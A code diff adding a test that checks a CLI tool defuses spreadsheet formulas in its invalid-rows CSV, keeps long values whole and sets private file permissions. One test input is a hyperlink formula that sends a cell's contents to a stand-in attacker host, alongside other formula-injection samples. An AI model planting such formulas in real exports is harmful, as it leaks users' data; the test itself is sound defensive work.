@@ -206,3 +206,29 @@ def test_xlsx_exports_keep_formula_like_cells_as_text(
     cell = sheet["C2"]
     assert cell.value == '=HYPERLINK("http://x")'
     assert cell.data_type == "s"  # text, not a live formula in our own export
+
+
+def test_csv_outputs_defuse_formulas_and_keep_long_values_whole(
+    write_csv: Callable[..., Path], tmp_path: Path
+) -> None:
+    hostile = '=HYPERLINK("http://evil/"&A1)'
+    long_pid = "x" * 100_000
+    sheet = write_csv(
+        "ProspectId,Codes,Webhook\n"
+        f"{long_pid},1,\n"
+        f'"{hostile.replace(chr(34), chr(34) * 2)}",1,\n'
+        f"{G1},+2,\n"
+        f"{G2},1,@SUM(1)\n"
+    )
+    out = tmp_path / "invalid.csv"
+    code, text, _ = invoke("plan", str(sheet), "--invalid-out", str(out))
+    assert code == 0
+    with out.open(newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert rows[0]["ProspectId"] == long_pid  # the invalid-rows file keeps the whole value
+    assert rows[1]["ProspectId"] == "'" + hostile
+    assert rows[2]["ActivityEventList"] == "'+2"
+    assert rows[3]["StatusWebhookURL"] == "'@SUM(1)"
+    assert max(len(line) for line in text.splitlines()) < 200  # messages cut it
+    assert "xxx…" in text
+    assert oct(out.stat().st_mode & 0o777) == "0o600"
